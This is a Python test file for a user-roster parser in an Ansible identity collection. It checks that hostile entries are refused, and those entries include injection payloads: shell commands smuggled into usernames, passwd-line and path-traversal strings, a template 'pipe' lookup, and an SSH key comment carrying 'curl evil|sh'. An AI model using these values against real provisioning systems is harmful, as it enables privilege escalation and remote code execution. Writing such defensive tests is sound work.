# Copyright (c) 2026, The labfleet.identity developers
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import base64
import datetime
import struct
import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ansible_collections.labfleet.identity.plugins.module_utils._errors import IdentityError
from ansible_collections.labfleet.identity.plugins.module_utils._roster import SHOWN_PROBLEMS, parse_roster


def ed25519(number: int, comment: str = "") -> str:
    """An ed25519 public key line that is well-formed and nobody's."""
    blob = struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + number.to_bytes(32, "big")
    return f"ssh-ed25519 {base64.b64encode(blob).decode()} {comment}".rstrip()


def refusal(data: Any) -> str:
    with pytest.raises(IdentityError) as caught:
        parse_roster(data)
    message = str(caught.value)
    assert message.isprintable()
    assert message.isascii()
    return message


def test_a_full_entry_is_read() -> None:
    [entry] = parse_roster(
        [
            {
                "username": "alice",
                "subject": "alice@uni.example",
                "gecos": "Alice L\u00f6we",
                "keys": [ed25519(1, "alice@laptop"), ed25519(1, "the same key again"), ed25519(2)],
                "groups": ["genomics", "research", "genomics"],
                "shell": "/bin/zsh",
                "home": "/efs/home/alice",
                "state": "disabled",
                "expires": datetime.date(2027, 1, 31),
                "adopt": True,
            }
        ]
    ).entries
    assert (entry.username, entry.subject, entry.gecos) == ("alice", "alice@uni.example", "Alice L\u00f6we")
    assert entry.keys is not None
    assert [key.line for key in entry.keys] == [ed25519(1, "alice@laptop"), ed25519(2)]
    assert entry.groups == ("genomics", "research")
    assert (entry.shell, entry.home, entry.state) == ("/bin/zsh", "/efs/home/alice", "disabled")
    assert (entry.expires, entry.adopt) == ("2027-01-31", True)


def test_a_key_may_be_a_mapping_with_options() -> None:
    entry = {"key": ed25519(2), "restrict": True, "pty": True, "expires": datetime.date(2027, 1, 31)}
    [alice] = parse_roster([{"username": "alice", "keys": [ed25519(1), entry, entry]}]).entries
    assert alice.keys is not None
    assert [held.line for held in alice.keys] == [
        ed25519(1),
        f'restrict,pty,expiry-time="20270131000000Z" {ed25519(2)}',
    ]


def test_what_is_not_said_stays_unsaid() -> None:
    for raw in ({"username": "alice"}, {"username": "alice", "keys": None, "groups": None, "subject": None}):
        [entry] = parse_roster([raw]).entries
        assert (entry.subject, entry.state) == ("alice", "present")
        assert [entry.gecos, entry.keys, entry.groups, entry.shell, entry.home, entry.expires, entry.adopt] == [
            None
        ] * 7
    [entry] = parse_roster([{"username": "alice", "keys": [], "groups": []}]).entries
    assert (entry.keys, entry.groups) == ((), ())


def test_order_is_kept_and_groups_are_gathered() -> None:
    roster = parse_roster({"users": [{"username": "zoe", "groups": ["b", "a"]}, {"username": "ada", "groups": ["a"]}]})
    assert [entry.username for entry in roster.entries] == ["zoe", "ada"]
    assert roster.group_names == ("a", "b")
    assert parse_roster([]).entries == ()


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (None, "not a list of people"),
        ("alice", "not a list of people"),
        ({"people": []}, "not of the form"),
        ({"users": [], "groups": []}, "not of the form"),
        ({"users": {"alice": {}}}, "not a list of people"),
    ],
)
def test_what_is_no_roster(data: Any, reason: str) -> None:
    assert reason in refusal(data)


HOSTILE: list[tuple[Any, str]] = [
    ("alice", "is not a mapping"),
    (None, "is not a mapping"),
    ([], "is not a mapping"),
    ({}, "no username"),
    ({"username": None}, "no username"),
    ({"username": 5238}, "is not text"),
    ({"username": False}, "is not text"),
    ({"username": "a'; reboot; '"}, "it holds"),
    ({"username": 'a"b'}, "it holds"),
    ({"username": "alice\nroot::0:0"}, "it holds"),
    ({"username": "alice:x:0:0"}, "it holds ':'"),
    ({"username": "../../etc/passwd"}, "it begins with '.'"),
    ({"username": "root"}, "belongs to the system"),
    ({"username": "x" * 33}, "33 characters"),
    ({"username": "\u0430lice"}, "U+0430"),
    ({"username": "\uff41lice"}, "did you mean 'alice'?"),
    ({"username": "{{ lookup('pipe', 'id') }}"}, "it begins with '{'"),
    ({"username": "mallory", "uid": 0}, "numbers come from the ledger"),
    ({"username": "mallory", "gid": 0}, "numbers come from the ledger"),
    ({"username": "mallory", "name": "mallory"}, "is called 'username'"),
    ({"username": "mallory", "sudo": True}, "unknown key 'sudo'"),
    ({"username": "mallory", 7: True}, "unknown key 7"),
    ({"username": "mallory", "subject": ""}, "subject is empty"),
    ({"username": "mallory", "subject": " x"}, "blanks around"),
    ({"username": "mallory", "subject": "a\nb"}, "not one line"),
    ({"username": "mallory", "subject": "e\u0301"}, "normal form NFC"),
    ({"username": "mallory", "subject": 12}, "is not text"),
    ({"username": "mallory", "gecos": "x:0:0:/root:/bin/sh"}, "holds a colon"),
    ({"username": "mallory", "gecos": "x\nroot2::0:0::/root:/bin/sh"}, "not one line"),
    ({"username": "mallory", "gecos": "\u202eecila"}, "not one line"),
    ({"username": "mallory", "gecos": "x" * 256}, "at most 255"),
    ({"username": "mallory", "gecos": ["x"]}, "is not text"),
    ({"username": "mallory", "shell": "bash"}, "not an absolute path"),
    ({"username": "mallory", "shell": "/bin/sh -c reboot"}, "unfit for passwd"),
    ({"username": "mallory", "shell": "/bin/sh\n"}, "unfit for passwd"),
    ({"username": "mallory", "home": "/home/../etc"}, "'..'"),
    ({"username": "mallory", "home": "/home/m:x"}, "unfit for passwd"),
    ({"username": "mallory", "home": "/home/$(id)"}, "unfit for passwd"),
    ({"username": "mallory", "home": "/root"}, "below a base"),
    ({"username": "mallory", "home": "/"}, "below a base"),
    ({"username": "mallory", "home": "//home/m"}, "not an absolute path"),
    ({"username": "mallory", "state": "gone"}, "is not one of present"),
    ({"username": "mallory", "state": True}, "is not one of present"),
    ({"username": "mallory", "state": ["present"]}, "is not one of present"),
    ({"username": "mallory", "expires": "tomorrow"}, "is not a day"),
    ({"username": "mallory", "expires": "2027-02-30"}, "is not a day"),
    ({"username": "mallory", "expires": "20270131"}, "is not a day"),
    ({"username": "mallory", "expires": "1970-01-02"}, "is not a day"),
    ({"username": "mallory", "expires": 20000}, "is not a day"),
    ({"username": "mallory", "expires": datetime.datetime(2027, 1, 1, tzinfo=datetime.timezone.utc)}, "is not a day"),
    ({"username": "mallory", "adopt": "yes"}, "is not true or false"),
    ({"username": "mallory", "adopt": True}, "it has adopt but no keys"),
    ({"username": "mallory", "groups": "sudo"}, "is not a list"),
    ({"username": "mallory", "groups": ["sudo"]}, "'sudo' belongs to the system"),
    ({"username": "mallory", "groups": ["docker"]}, "'docker' belongs to the system"),
    ({"username": "mallory", "groups": ["a,b"]}, "it holds ','"),
    ({"username": "mallory", "groups": [f"g{n}" for n in range(17)]}, "NFS heeds 16"),
    ({"username": "mallory", "keys": ed25519(9)}, "is not a list"),
    ({"username": "mallory", "keys": [None]}, "must be text"),
    ({"username": "mallory", "keys": ['command="id" ' + ed25519(9)]}, "options in front of the key"),
    ({"username": "mallory", "keys": ["no-pty,from=\"*\" " + ed25519(9)]}, "options in front of the key"),
    ({"username": "mallory", "keys": [ed25519(9, "x\n") + "\n" + ed25519(10)]}, "comment"),
    ({"username": "mallory", "keys": [ed25519(9, '"; command="curl evil|sh')]}, "comment"),
    ({"username": "mallory", "keys": [ed25519(9, "$(reboot)")]}, "comment"),
    ({"username": "mallory", "keys": [ed25519(9, "`reboot`")]}, "comment"),
    ({"username": "mallory", "keys": [{"command": "id"}]}, "has no key"),
    ({"username": "mallory", "keys": [{"key": ed25519(9), "command": 'a"b'}]}, "has a quote or a backslash"),
    ({"username": "mallory", "keys": [{"key": ed25519(9), "environment": "A=1"}]}, "unknown option 'environment'"),
    ({"username": "mallory", "keys": [ed25519(9), {"key": ed25519(9), "pty": False}]}, "with different options"),
    ({"username": "mallory", "keys": ["-----BEGIN OPENSSH PRIVATE KEY-----"]}, "private key"),
]  # fmt: skip


@pytest.mark.parametrize(("entry", "reason"), HOSTILE, ids=[str(number) for number in range(len(HOSTILE))])
def test_hostile_entries_are_refused_by_name(entry: Any, reason: str) -> None:
    message = refusal([{"username": "honest"}, entry, {"username": "upright"}])
    assert reason in message
    assert message.startswith("The roster is refused as a whole and nothing was written: entry 2")
    if isinstance(entry, dict) and entry.get("username") == "mallory":
        assert "entry 2 ('mallory'): " in message
    assert "entry 1" not in message
    assert "entry 3" not in message


def test_all_bad_entries_are_named_in_one_message() -> None:
    people = [entry for entry, _reason in HOSTILE[: SHOWN_PROBLEMS + 5]]
    message = refusal(people)
    for index in range(1, SHOWN_PROBLEMS + 1):
        assert f"entry {index}" in message
    assert f"entry {SHOWN_PROBLEMS + 1}" not in message
    assert "; and 5 more" in message


@pytest.mark.parametrize(
    ("one", "two", "reason"),
    [
        ({"username": "alice"}, {"username": "alice"}, "entry 1 has this username already"),
        ({"username": "alice"}, {"username": "alice", "subject": "other"}, "entry 1 has this username already"),
        ({"username": "alice", "subject": "s"}, {"username": "bob", "subject": "s"}, "entry 1 is the same person"),
        ({"username": "alice"}, {"username": "bob", "subject": "alice"}, "entry 1 is the same person"),
        (
            {"username": "alice", "keys": [ed25519(1, "alice")]},
            {"username": "bob", "keys": [ed25519(2), ed25519(1, "bob")]},
            "entry 1 has the same SSH key",
        ),
        (
            {"username": "alice", "keys": [ed25519(1, "alice")]},
            {"username": "bob", "keys": [{"key": ed25519(1, "bob"), "restrict": True}]},
            "entry 1 has the same SSH key",
        ),
        ({"username": "alice", "home": "/home/x"}, {"username": "bob", "home": "/home/x"}, "entry 1 has the same home"),
        ({"username": "alice", "groups": ["bob"]}, {"username": "bob"}, "entry 1 names a shared group so"),
    ],
)
def test_two_people_never_share(one: Any, two: Any, reason: str) -> None:
    message = refusal([one, two])
    assert "entry 2" in message
    assert reason in message


def test_a_hundred_thousand_people_are_read_in_seconds() -> None:
    people = [
        {
            "username": f"p{n}",
            "gecos": f"Person {n}",
            "groups": [f"project{n % 50}"],
            "keys": [ed25519(n, f"p{n}@laptop")],
        }
        for n in range(100_000)
    ]
    begin = time.process_time()
    roster = parse_roster(people)
    assert time.process_time() - begin < 10
    assert len(roster.entries) == 100_000
    people[77_777]["username"] = "P77777"
    assert "entry 77778 ('P77777')" in refusal(people)


ODDITIES = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(), st.binary(), st.dates()),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)),
    max_leaves=8,
)
KEYS = st.sampled_from(
    ["username", "subject", "gecos", "keys", "groups", "shell", "home", "state", "expires", "adopt", "uid", "x"]
)


@given(st.lists(st.one_of(ODDITIES, st.dictionaries(KEYS, ODDITIES, max_size=6)), max_size=5))
def test_whatever_comes_is_read_or_refused_never_a_crash(data: Any) -> None:
    try:
        names = [entry.username for entry in parse_roster(data).entries]
    except IdentityError:
        assert refusal(data)
    else:
        assert len(set(names)) == len(data)
